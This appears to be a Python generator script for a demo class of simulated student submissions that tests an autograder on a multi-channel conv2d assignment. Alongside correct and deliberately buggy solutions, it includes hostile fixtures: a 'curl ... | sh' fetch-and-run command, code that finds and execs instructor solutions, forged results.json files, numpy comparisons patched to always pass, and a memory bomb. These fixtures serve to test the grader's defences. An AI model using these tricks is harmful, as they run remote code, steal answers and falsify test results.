"""Write the demo class (``demo/a03_multichannel/``) from the small templates below.

The written files are committed so instructors can read them; this script is how they were made
and ``tests/test_demo.py`` checks they still match it. Run ``python demo/make_class.py`` after
editing a template. Everything is deterministic (fixed notebook cell ids, sorted output).

Each student is one entry of :data:`ROSTER`: the files they handed in and what ``grader batch``
must make of them (``expect``, read by the tests and by ``grader demo``):

    correct    graded, full score
    wrong:<code>  graded, below full score, the diagnosis <code> among the result's codes
    zero       graded with a score of 0 (stubs and code that only pretends)
    below      graded or stopped, never the full score (attacks: the score must stay honest)
    status:<s> that grading status (no_submission, unreadable, syntax_error, timeout, crashed...)
"""

from __future__ import annotations

import json
import shutil
import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
CLASS_DIR = HERE / "a03_multichannel"
ROSTER_FILE = HERE / "roster.json"

# --- templates -------------------------------------------------------------------------------------

PRELUDE = '''\
import math

import numpy as np
from numpy.lib.stride_tricks import sliding_window_view


def _pair(value, name):
    """int -> (int, int); a pair of ints stays (provided helper)."""
    if isinstance(value, (int, np.integer)) and not isinstance(value, bool):
        return int(value), int(value)
    if isinstance(value, (tuple, list)) and len(value) == 2 and all(
        isinstance(v, (int, np.integer)) and not isinstance(v, bool) for v in value
    ):
        return int(value[0]), int(value[1])
    raise ValueError(f"{name} must be an int or a pair of ints, got {value!r}")


def _same_padding(n, k, s):
    """TensorFlow's SAME split along one axis (provided helper)."""
    total = max((math.ceil(n / s) - 1) * s + k - n, 0)
    return total // 2, total - total // 2


def _check(x, w, b, stride, padding, same=_same_padding):
    """Validate; return x, w, b, (sh, sw), ((top, bottom), (left, right))."""
    x, w = np.asarray(x), np.asarray(w)
    if x.ndim != 4 or w.ndim != 4:
        raise ValueError("x must be NHWC and w HWIO (4-D)")
    if x.shape[3] != w.shape[2]:
        raise ValueError(f"x has {x.shape[3]} channels, the filters {w.shape[2]}")
    if b is not None:
        b = np.asarray(b)
        if b.shape != (w.shape[3],):
            raise ValueError("b needs one value per filter")
    sh, sw = _pair(stride, "stride")
    if sh < 1 or sw < 1:
        raise ValueError("stride must be >= 1")
    (H, W), (kh, kw) = x.shape[1:3], w.shape[:2]
    if padding == "SAME":
        pads = same(H, kh, sh), same(W, kw, sw)
    elif padding == "VALID":
        pads = (0, 0), (0, 0)
    elif isinstance(padding, str):
        raise ValueError(f"unknown padding {padding!r}")
    elif isinstance(padding, (tuple, list)) and len(padding) == 2:
        pads = _pair(padding[0], "padding"), _pair(padding[1], "padding")
    else:
        pads = (_pair(padding, "padding"),) * 2
    if min(pads[0] + pads[1]) < 0:
        raise ValueError("padding must be >= 0")
    if kh > H + sum(pads[0]) or kw > W + sum(pads[1]):
        raise ValueError("kernel larger than the padded input")
    return x, w, b, (sh, sw), pads


def _padded(x, pads, dtype=np.float64):
    return np.pad(x.astype(dtype), ((0, 0), pads[0], pads[1], (0, 0)))
'''

# The body of conv2d for each style; ``{head}`` is the validating first line.
HEAD = "x, w, b, (sh, sw), pads = _check(x, w, b, stride, padding)"

BODIES = {
    "loops": '''\
    {head}
    xp = _padded(x, pads)
    N, Hp, Wp, C = xp.shape
    kh, kw, _, F = w.shape
    Ho, Wo = (Hp - kh) // sh + 1, (Wp - kw) // sw + 1
    out = np.zeros((N, Ho, Wo, F))
    for n in range(N):
        for i in range(Ho):
            for j in range(Wo):
                for f in range(F):
                    total = 0.0
                    for u in range(kh):
                        for v in range(kw):
                            for c in range(C):
                                total += xp[n, i * sh + u, j * sw + v, c] * w[u, v, c, f]
                    out[n, i, j, f] = total
    if b is not None:
        out += b
    return out
''',
    "einsum": '''\
    {head}
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    return out if b is None else out + b
''',
    "im2col": '''\
    {head}
    xp = _padded(x, pads)
    N, Hp, Wp, C = xp.shape
    kh, kw, _, F = w.shape
    Ho, Wo = (Hp - kh) // sh + 1, (Wp - kw) // sw + 1
    cols = np.empty((N, Ho, Wo, kh * kw * C))
    for i in range(Ho):
        for j in range(Wo):
            cols[:, i, j, :] = xp[:, i * sh:i * sh + kh, j * sw:j * sw + kw, :].reshape(N, kh * kw * C)
    out = cols @ w.reshape(kh * kw * C, F).astype(np.float64)
    return out if b is None else out + b
''',
    "float32": '''\
    {head}
    inputs = [x, w] + ([] if b is None else [b])
    dtype = np.float32 if all(a.dtype == np.float32 for a in inputs) else np.float64
    xp = _padded(x, pads, dtype)
    N, Hp, Wp, C = xp.shape
    kh, kw, _, F = w.shape
    Ho, Wo = (Hp - kh) // sh + 1, (Wp - kw) // sw + 1
    out = np.zeros((N, Ho, Wo, F), dtype)
    for u in range(kh):
        for v in range(kw):
            patch = xp[:, u:u + sh * (Ho - 1) + 1:sh, v:v + sw * (Wo - 1) + 1:sw, :]
            out += np.tensordot(patch, w[u, v].astype(dtype), axes=([3], [0]))
    return out if b is None else out + b.astype(dtype)
''',
    "noisy": '''\
    {head}
    import warnings

    print("DEBUG conv2d", x.shape, w.shape, stride, padding)
    warnings.warn("this is my first convolution, be nice")
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    return out if b is None else out + b
''',
    # --- wrong in one way each ---
    "flipped": '''\
    {head}
    w = w[::-1, ::-1]  # a convolution flips its kernel (but tf.nn.conv2d does not!)
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    return out if b is None else out + b
''',
    "same_symmetric": '''\
    x, w, b, (sh, sw), pads = _check(x, w, b, stride, padding, same=lambda n, k, s: (k // 2, k // 2))
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    return out if b is None else out + b
''',
    "no_channel_sum": '''\
    {head}
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijcf", windows, w.astype(np.float64))  # one map per channel
    out = out.reshape(*out.shape[:3], -1)
    return out if b is None else out + np.tile(b, x.shape[3])
''',
    "missing_bias": '''\
    {head}
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    return np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))  # TODO: b
''',
    "stride_swapped": '''\
    {head}
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sw, ::sh]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    return out if b is None else out + b
''',
    "off_by_one": '''\
    {head}
    xp = _padded(x, pads)
    N, Hp, Wp, C = xp.shape
    kh, kw, _, F = w.shape
    Ho, Wo = (Hp - kh) // sh, (Wp - kw) // sw  # forgot the + 1
    out = np.zeros((N, Ho, Wo, F))
    for i in range(Ho):
        for j in range(Wo):
            window = xp[:, i * sh:i * sh + kh, j * sw:j * sw + kw, :]
            out[:, i, j, :] = np.tensordot(window, w, axes=([1, 2, 3], [0, 1, 2]))
    return out if b is None else out + b
''',
    "nchw": '''\
    {head}
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nfij", windows, w.astype(np.float64))  # PyTorch habit: NCHW
    return out if b is None else out + b[:, None, None]
''',
    "no_validation": '''\
    x, w = np.asarray(x), np.asarray(w)
    sh, sw = (stride, stride) if isinstance(stride, int) else stride
    kh, kw, C, F = w.shape
    if padding == "SAME":
        pads = _same_padding(x.shape[1], kh, sh), _same_padding(x.shape[2], kw, sw)
    elif isinstance(padding, int):
        pads = (padding, padding), (padding, padding)
    elif isinstance(padding, (tuple, list)):
        pads = tuple(padding)
    else:
        pads = (0, 0), (0, 0)  # anything else: VALID
    xp = _padded(x[..., :C], pads)  # extra channels are simply ignored
    windows = sliding_window_view(xp, (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    return out if b is None else out + np.asarray(b)[:F]
''',
    "integer_truncation": '''\
    {head}
    xp = np.pad(x, ((0, 0), pads[0], pads[1], (0, 0)))
    N, Hp, Wp, C = xp.shape
    kh, kw, _, F = w.shape
    Ho, Wo = (Hp - kh) // sh + 1, (Wp - kw) // sw + 1
    out = np.zeros((N, Ho, Wo, F), dtype=x.dtype)  # same dtype as the image
    for i in range(Ho):
        for j in range(Wo):
            window = xp[:, i * sh:i * sh + kh, j * sw:j * sw + kw, :]
            out[:, i, j, :] = np.tensordot(window, w, axes=([1, 2, 3], [0, 1, 2]))
    return out if b is None else out + b
''',
    "mutates_input": '''\
    {head}
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    x[...] = 0  # free the memory of the input (it does not: it overwrites the caller's image)
    return out if b is None else out + b
''',
    "valid_only": '''\
    {head}
    if padding == "SAME":
        raise NotImplementedError("SAME padding: later")
    kh, kw = w.shape[:2]
    windows = sliding_window_view(_padded(x, pads), (kh, kw), axis=(1, 2))[:, ::sh, ::sw]
    out = np.einsum("nijcuv,uvcf->nijf", windows, w.astype(np.float64))
    return out if b is None else out + b
''',
    "stub": '''\
    ### BEGIN SOLUTION
    raise NotImplementedError()
    ### END SOLUTION
''',
    # --- hostile ---
    "infinite_loop": '''\
    while True:  # "it is still thinking"
        pass
''',
    "tensorflow": '''\
    import tensorflow as tf  # the reference itself: forbidden in this course

    return tf.nn.conv2d(x, w, stride, padding).numpy()
''',
    "os_system": '''\
    import os

    os.system("curl -s http://example.com/answers | sh")
    raise NotImplementedError()
''',
    "zeros": '''\
    x, w = np.asarray(x), np.asarray(w)
    return np.zeros((x.shape[0], x.shape[1], x.shape[2], w.shape[3]))
''',
}

SIGNATURE = 'def conv2d(x, w, b=None, stride=1, padding="VALID"):\n    """NHWC x HWIO (+ bias) -> (N, Ho, Wo, F), like tf.nn.conv2d."""\n'

# Code a hostile student puts at module level, before conv2d.
TOP = {
    "memory_bomb": "_CACHE = bytearray(64 * 1024**3)  # 'precompute' everything\n\n\n",
    "sys_exit": "import sys\n\nsys.exit(0)  # 'my code is done'\n\n\n",
    "reads_solutions": '''\
import os
import sys
from pathlib import Path


def _steal():
    """Look for the instructor's solution next to anything on sys.path, and run it."""
    roots = [Path(p) for p in sys.path + [os.environ.get("GRADER_COURSE", ""), os.getcwd()] if p]
    for root in roots:
        for folder in (root, *root.parents):
            candidate = folder / "solutions" / "a03_multichannel" / "multichannel.py"
            if candidate.is_file():
                namespace = {}
                exec(candidate.read_text(), namespace)
                return namespace["conv2d"]
    return None


_solution = _steal()


''',
    "forge_results": '''\
import json
import os

# Write a perfect results.json wherever the autograder might read it.
for _place in ("results.json", "../results.json", "/autograder/results/results.json", os.path.expanduser("~/results.json")):
    try:
        with open(_place, "w") as _f:
            json.dump({"score": 16, "max_score": 16, "tests": []}, _f)
    except OSError:
        pass


''',
    "patch_numpy": '''\
# Make every comparison succeed (this worked against notebook graders that test in the kernel).
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.array_equal = lambda *args, **kwargs: True


''',
}

BODIES["reads_solutions"] = '''\
    if _solution is not None:
        return _solution(x, w, b, stride, padding)
    raise NotImplementedError()
'''


def module(style: str, top: str = "", doc: str = "") -> str:
    """A student's multichannel.py: the provided helpers, optional module-level code, conv2d."""
    header = f'"""{doc or "Assignment 3: multi-channel convolution."}"""\n\n'
    body = BODIES[style].replace("{head}", HEAD)
    prelude = PRELUDE
    if top.startswith(("import", "#")) and "np." in top:  # patching numpy needs numpy first
        prelude, top = PRELUDE + "\n\n" + top.rstrip() + "\n", ""
    return header + prelude + "\n\n" + top + SIGNATURE + body


SYNTAX_ERROR = '''\
"""Assignment 3: multi-channel convolution."""
import numpy as np


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    out = np.zeros((1, 1, 1, 1)
    for n in range(x.shape[0]):
        pass
    return out
'''

NOT_UTF8 = '"""Assignment 3 \xe9t\xe9 (saved as Latin-1)."""\nimport numpy as np\n\n\ndef conv2d(x, w, b=None, stride=1, padding="VALID"):\n    raise NotImplementedError()\n'.encode("latin-1")


def notebook(source: str, extra_demo: bool = True) -> str:
    """A small student notebook: a title, the module split over two cells, a demo cell that calls it.

    Cell ids are fixed so the file is the same every time (nbformat would draw random ones).
    """
    import nbformat
    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

    head, _, rest = source.partition("\n\n\ndef _pair")
    cells = [
        new_markdown_cell("# 과제 3: 3차원 데이터의 합성곱\n\n`conv2d(x, w, b=None, stride=1, padding=\"VALID\")`"),
        new_code_cell(head.strip() + "\n"),
        new_code_cell(("def _pair" + rest).strip() + "\n"),
    ]
    if extra_demo:
        cells.append(
            new_code_cell(
                "%matplotlib inline\nx = np.arange(18.0).reshape(1, 3, 3, 2)\nprint(conv2d(x, np.ones((2, 2, 2, 1)))[0, :, :, 0])"
            )
        )
    for i, cell in enumerate(cells):
        cell["id"] = f"cell-{i}"
    nb = new_notebook(cells=cells, metadata={"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}})
    nbformat.validate(nb)
    return nbformat.writes(nb) + "\n"


# --- the class -------------------------------------------------------------------------------------

PY, NB = "multichannel.py", "a03_multichannel.ipynb"

# student id -> ({relative path: content}, expectation, what it shows)
ROSTER: dict[str, tuple[dict[str, str | bytes], str, str]] = {
    # correct, in several styles
    "kim_minjun": ({PY: module("loops")}, "correct", "seven nested loops"),
    "lee_seoyeon": ({PY: module("einsum")}, "correct", "sliding_window_view + einsum"),
    "park_jiho": ({PY: module("im2col")}, "correct", "im2col + one matrix product"),
    "choi_yuna": ({PY: module("float32")}, "correct", "tensordot per kernel offset, keeps float32"),
    "jung_hyunwoo": ({NB: notebook(module("loops"))}, "correct", "notebook, loops, a demo cell with a magic"),
    "한지민": ({NB: notebook(module("einsum"))}, "correct", "Hangul name, notebook"),
    "kang doyun": ({"hw3/" + PY: module("im2col")}, "correct", "name with a space, file in a subfolder"),
    "oh_sehun.py": ({"": module("float32")}, "correct", "a loose file DIR/oh_sehun.py"),
    "yoon_ara": ({PY: module("noisy")}, "correct", "prints and warns: never costs points"),
    "=1+1": ({PY: module("einsum")}, "correct", "a name a spreadsheet would run as a formula"),
    # wrong in one way each
    "song_minho": ({NB: notebook(module("flipped"))}, "wrong:flipped_kernel", "true convolution (flipped kernel), notebook"),
    "han_jiwoo": ({PY: module("same_symmetric")}, "wrong:same_padding_symmetric", "k//2 zeros on both sides"),
    "lim_sora": ({PY: module("no_channel_sum")}, "wrong:no_channel_sum", "one output map per input channel"),
    "shin_dongwook": ({PY: module("missing_bias")}, "wrong:missing_bias", "forgot the bias"),
    "kwon_eunbi": ({PY: module("stride_swapped")}, "wrong:stride_swapped", "(sh, sw) used the other way round"),
    "hwang_taeyang": ({PY: module("off_by_one")}, "wrong:output_size_off_by_one", "(n - k) // s without + 1"),
    "ahn_jaehyun": ({PY: module("nchw")}, "wrong:layout_nchw", "returns NCHW"),
    "baek_seungmin": ({PY: module("no_validation")}, "wrong:no_validation", "accepts bad input silently"),
    "jo_haeun": ({PY: module("integer_truncation")}, "wrong:integer_truncation", "output in the image's dtype"),
    "yang_jisoo": ({PY: module("mutates_input")}, "wrong:mutates_input", "overwrites the caller's array"),
    "nam_gyuri": ({NB: notebook(module("valid_only"))}, "wrong:not_implemented", "SAME left for later, notebook"),
    "moon_chaewon": ({PY: module("zeros")}, "zero", "returns zeros of the right shape"),
    # stubs
    "go_eunji": ({PY: module("stub")}, "zero", "the stub, untouched"),
    "ryu_seojin": ({NB: notebook(module("stub"), extra_demo=False)}, "zero", "the stub notebook, untouched"),
    # hostile or broken
    "jang_wooyoung": ({PY: module("infinite_loop")}, "status:timeout", "while True: pass in conv2d: every call times out"),
    "cha_eunwoo": ({PY: module("stub", top=TOP["memory_bomb"])}, "below", "allocates 64 GiB at import"),
    "ha_sungwoon": ({PY: module("tensorflow")}, "status:forbidden", "imports tensorflow"),
    "seo_inguk": ({PY: module("os_system")}, "status:forbidden", "os.system in conv2d: stopped on every call"),
    "ju_jihoon": ({PY: module("reads_solutions", top=TOP["reads_solutions"])}, "below", "looks for solutions/ and execs it"),
    "min_yoongi": ({PY: SYNTAX_ERROR}, "status:syntax_error", "a missing parenthesis"),
    "bang_chan": ({NB: '{"cells": [{"cell_type": "code", "source": "import numpy as np\\n'}, "status:unreadable", "notebook cut off mid-JSON"),
    "heo_yunjin": ({PY: module("stub", top=TOP["sys_exit"])}, "below", "sys.exit(0) at import"),
    "pyo_jihoon": ({PY: module("zeros", top=TOP["forge_results"])}, "below", "writes its own results.json"),
    "do_kyungsoo": ({PY: module("zeros", top=TOP["patch_numpy"])}, "below", "patches np.allclose to return True"),
    "latin_one": ({PY: NOT_UTF8}, "status:unreadable", "saved as Latin-1, not UTF-8"),
    # nothing to grade, or too much
    "empty_folder": ({".gitkeep": ""}, "status:no_submission", "an empty folder (git keeps it with .gitkeep)"),
    "mac_user": ({".DS_Store": "\0\0\0\1Bud1", ".ipynb_checkpoints/" + NB.replace(".ipynb", "-checkpoint.ipynb"): notebook(module("einsum"))},
                 "status:no_submission", "only .DS_Store and .ipynb_checkpoints"),
    "readme_only": ({"README.txt": "I will submit tomorrow.\n"}, "status:no_submission", "no module at all"),
    "two_files": ({PY: module("stub"), NB: notebook(module("im2col"))}, "correct", "stub .py and a solved notebook: the notebook is graded"),
    "seo_jun.py": ({"": module("missing_bias")}, "wrong:missing_bias", "loose seo_jun.py and seo_jun.ipynb: one row"),
    "seo_jun.ipynb": ({"": notebook(module("stub"), extra_demo=False)}, "", ""),
}


def files() -> dict[Path, bytes]:
    """Every file of the demo class, relative to ``CLASS_DIR``."""
    out: dict[Path, bytes] = {}
    for student, (content, _, _) in ROSTER.items():
        for name, text in content.items():
            path = Path(student) if name == "" else Path(student) / name
            out[path] = text if isinstance(text, bytes) else text.encode("utf-8")
    return out


def roster() -> dict[str, dict[str, str]]:
    """student id -> {"expect", "shows"} (loose files under their stem; the second loose file skipped)."""
    out = {}
    for student, (_, expect, shows) in ROSTER.items():
        if expect:
            out[Path(student).stem if student.endswith((".py", ".ipynb")) else student] = {"expect": expect, "shows": shows}
    return dict(sorted(out.items()))


def write(dest: Path = CLASS_DIR, roster_file: Path = ROSTER_FILE) -> None:
    if dest.exists():
        shutil.rmtree(dest)
    for rel, data in sorted(files().items()):
        path = dest / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    roster_file.write_text(json.dumps(roster(), ensure_ascii=False, indent=1) + "\n", encoding="utf-8")


if __name__ == "__main__":
    write()
    print(f"wrote {len(files())} files for {len(roster())} students under {CLASS_DIR}", file=sys.stderr)
